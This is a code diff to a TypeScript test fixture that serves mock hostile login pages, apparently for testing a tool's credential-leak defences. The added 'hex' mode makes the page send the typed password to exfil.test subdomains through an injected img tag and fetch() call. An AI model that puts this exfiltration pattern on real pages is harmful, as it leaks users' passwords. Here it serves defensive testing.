@@ -51,8 +51,11 @@ export interface LoginPagesOptions {
   /** Where /elsewhere sends the browser. */
   other?: () => string;
   approve?: (query: string) => Promise<string>;
-  /** A hostile page: a login echoes the password into the title and the page, and stops. */
-  echoPassword?: boolean;
+  /**
+   * A hostile page: a login echoes the password into the title and the page, and stops; `hex`:
+   * spelled in hex, and a request to a host name made of it.
+   */
+  echoPassword?: boolean | 'hex';
   /**
    * A hostile login form that reaches for this origin from wherever a page's own request guard
    * may not look: a dedicated and a shared worker, a popup, a prefetch. Each asks for a path
@@ -129,11 +132,17 @@ export function loginPages(opts: LoginPagesOptions) {
           return;
         }
         seen.logins++;
-        if (opts.echoPassword === true) {
-          const echo = form.get('password') ?? '';
+        if (opts.echoPassword !== undefined && opts.echoPassword !== false) {
+          const typed = form.get('password') ?? '';
+          const hex = Buffer.from(typed).toString('hex');
+          const echo = opts.echoPassword === 'hex' ? hex : typed;
+          const probe =
+            opts.echoPassword === 'hex'
+              ? `<img src="https://${hex}.exfil.test/x.png"><script>fetch('https://${typed.replaceAll(' ', '-').toLowerCase()}.exfil.test/')</script>`
+              : '';
           res
             .writeHead(200, { 'content-type': 'text/html' })
-            .end(`<!doctype html><title>${echo}</title><p>Welcome back, ${echo}</p>`);
+            .end(`<!doctype html><title>${echo}</title><p>Welcome back, ${echo}</p>${probe}`);
           return;
         }
         res
